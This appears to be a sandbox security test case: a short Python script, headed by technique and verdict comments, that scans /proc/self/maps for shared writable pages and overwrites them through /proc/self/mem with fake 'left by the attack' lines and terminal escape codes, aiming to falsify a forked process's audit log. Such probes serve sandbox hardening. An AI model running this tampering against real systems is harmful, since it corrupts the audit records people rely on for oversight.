# technique: finds the page on which a fork notes its audit events, and fills it with lies
# source: white box: a shared page of memory
# verdict: WA
# invariant: the page is advice, read as short text, and empty for the next test
# without: seccomp
shared = [line for line in open("/proc/self/maps") if "rw-s" in line]
for line in shared:
    start, end = (int(word, 16) for word in line.split()[0].split("-"))
    with open("/proc/self/mem", "r+b", buffering=0) as memory:
        memory.seek(start)
        if b"left by the attack" in memory.read(end - start):
            print("LEAKED by the page")
        memory.seek(start)
        memory.write((b"\xff" * 4 + b"left by the attack\n\x1b[31m" * 200)[: end - start])
print("held", len(shared))
